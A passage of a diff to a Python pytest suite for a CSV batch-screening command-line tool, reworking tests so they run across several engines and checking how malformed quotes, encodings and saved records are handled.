+    code, out, _ = batch_on(engine, capsys, str(data), "--encoding", "utf-16-le",
+                            falls_back="utf-16-le")
     assert code == 0 and "\n1,A,ok," in out
 
 
@@ -704,6 +769,7 @@ def test_quoted_values_ending_in_a_line_break_anywhere_in_a_long_file_are_read(
     assert "9000 row(s) screened" in err
 
 
+@pytest.mark.slow_engines
 @pytest.mark.parametrize("text", [
     'id,danger,comment\nA,no,ok\nB,no,"never closed\nC,no,x\nD,no,y\n',
     'id,danger,comment\nA,no,ok\nB,no,"never closed\nC,no,x\nD,no,y',  # no final line end
@@ -722,12 +788,12 @@ def test_a_quote_never_closed_is_refused_with_or_without_a_final_line_end(
     assert "never closed" in err and not out.exists() and not leftovers(tmp_path)
 
 
-def test_quoted_line_breaks_keep_rows_and_lines_right(capsys: pytest.CaptureFixture[str],
-                                                      tmp_path: Path) -> None:
+def test_quoted_line_breaks_keep_rows_and_lines_right(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     data = tmp_path / "q.csv"
     data.write_text('id,comment,drinks\nA,"two\nlines",1\nB,ok,x\n"C,D",ok,2\n')
     errors = tmp_path / "e.csv"
-    code, out, _ = batch_cli(capsys, str(data), "--errors", str(errors))
+    code, out, _ = batch_on(engine, capsys, str(data), "--errors", str(errors), falls_back=LINES)
     assert code == 1
     assert [r["id"] for r in csv.DictReader(io.StringIO(out))] == ["A", "B", "C,D"]
     problem = next(csv.DictReader(errors.open()))
@@ -946,27 +1012,38 @@ def expected_row(rs: Ruleset, cells: dict[str, str]) -> dict[str, Any]:
     }
 
 
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
-@given(rows=st.lists(row_strategy, min_size=1, max_size=25))
-def test_batch_equals_screening_each_row_on_its_own(rows: list[dict[str, str]]) -> None:
+def test_batch_equals_screening_each_row_on_its_own(engine: Engine, tmp_path: Path) -> None:
+    """Each engine's batch result for a row is what the engine gives that row on its own."""
     rs = load_ruleset(DATA / "minimal.yaml")
-    text = io.StringIO()
-    writer = csv.writer(text, delimiter=";", lineterminator="\r\n")
-    writer.writerow(["id", *QUESTIONS])
-    for i, row in enumerate(rows):
-        writer.writerow([f"R{i}", *(row[q] for q in QUESTIONS)])
-    source = batch_input.Source("rows.csv", io.TextIOWrapper(io.BytesIO(
-        text.getvalue().encode("utf-8-sig")), encoding="utf-8-sig", newline=""),
-        io.BytesIO(), "utf-8-sig", None, None)
-    out: list[str] = []
-    run_batch(rs, source, out.append, BatchOptions(fmt="jsonl"), lambda p: None)
-    got = [json.loads(line) for line in "".join(out).splitlines()]
-    assert len(got) == len(rows)
-    for i, (row, obj) in enumerate(zip(rows, got)):
-        want = expected_row(rs, row)
-        assert obj["row"] == i + 1 and obj["id"] == f"R{i}"
-        assert [e["column"] for e in obj.pop("errors")] == want.pop("errors")
-        assert {k: obj[k] for k in want} == want, row
+    screened = []
+
+    # Few files of many rows: a SQL engine's run costs most in building its query.
+    @settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.too_slow,
+                                                                     HealthCheck.data_too_large])
+    @given(rows=st.lists(row_strategy, min_size=40, max_size=150))
+    def check(rows: list[dict[str, str]]) -> None:
+        text = io.StringIO()
+        writer = csv.writer(text, delimiter=";", lineterminator="\r\n")
+        writer.writerow(["id", *QUESTIONS])
+        for i, row in enumerate(rows):
+            writer.writerow([f"R{i}", *(row[q] for q in QUESTIONS)])
+        data, out = tmp_path / "rows.csv", tmp_path / "out.jsonl"
+        data.write_bytes(text.getvalue().encode("utf-8-sig"))
+        err = io.StringIO()
+        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
+            run(["batch", "-r", MINIMAL, str(data), "-o", str(out), "--force", "-f", "jsonl",
+                 "--no-progress", *engine.args])
+        screened.append(not FALLBACK.search(err.getvalue()))
+        got = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
+        assert len(got) == len(rows)
+        for i, (row, obj) in enumerate(zip(rows, got)):
+            want = expected_row(rs, row)
+            assert obj["row"] == i + 1 and obj["id"] == f"R{i}"
+            assert [e["column"] for e in obj.pop("errors")] == want.pop("errors")
+            assert {k: obj[k] for k in want} == want, row
+
+    check()
+    assert sum(screened) >= len(screened) // 2  # the engine itself screened most files
 
 
 # ------------------------------------------------------------------------------ template
@@ -1054,11 +1131,13 @@ def test_a_killed_run_s_temporary_files_are_removed_by_the_next_run(
     assert code == 0 and "removed" not in err and leftovers(tmp_path) == [live.name]
 
 
-def test_save_keeps_each_valid_row_as_a_record(capsys: pytest.CaptureFixture[str],
-                                               tmp_path: Path) -> None:
+@pytest.mark.slow_engines
+def test_save_keeps_each_valid_row_as_a_record(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     db = tmp_path / "records.db"
-    code, _, err = batch_cli(capsys, str(MESSY), "--ignore-extra", "-o", str(tmp_path / "r.csv"),
-                             "--save", "--db", str(db), "--counselor", "ana")
+    code, _, err = batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-o",
+                            str(tmp_path / "r.csv"),
+                            "--save", "--db", str(db), "--counselor", "ana", falls_back=MESSY_READ)
     assert code == 1
     assert "saved 7 new record(s)" in err and "not saved: 2 row(s) with errors" in err  # the short row is saved
     code, out, _ = cli(capsys, "records", "show", "1", "--db", str(db), "--format", "json",
@@ -1071,13 +1150,13 @@ def test_save_keeps_each_valid_row_as_a_record(capsys: pytest.CaptureFixture[str
     assert record["result"]["level"] == first_ok["level"]
 
 
-def test_save_leaves_out_rows_without_an_id(capsys: pytest.CaptureFixture[str],
-                                            tmp_path: Path) -> None:
+def test_save_leaves_out_rows_without_an_id(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     data = write_csv(tmp_path / "d.csv", [["A", "no"], ["", "yes"], ["C", "maybe"]],
                      header=["id", "danger"])
     db = tmp_path / "records.db"
-    code, _, err = batch_cli(capsys, str(data), "-o", str(tmp_path / "r.csv"), "--save",
-                             "--db", str(db))
+    code, _, err = batch_on(engine, capsys, str(data), "-o", str(tmp_path / "r.csv"), "--save",
+                            "--db", str(db))
     assert code == 1
     assert ("saved 1 new record(s)" in err and "not saved: 1 row(s) with errors" in err
             and "not saved: 1 row(s) without an id" in err)
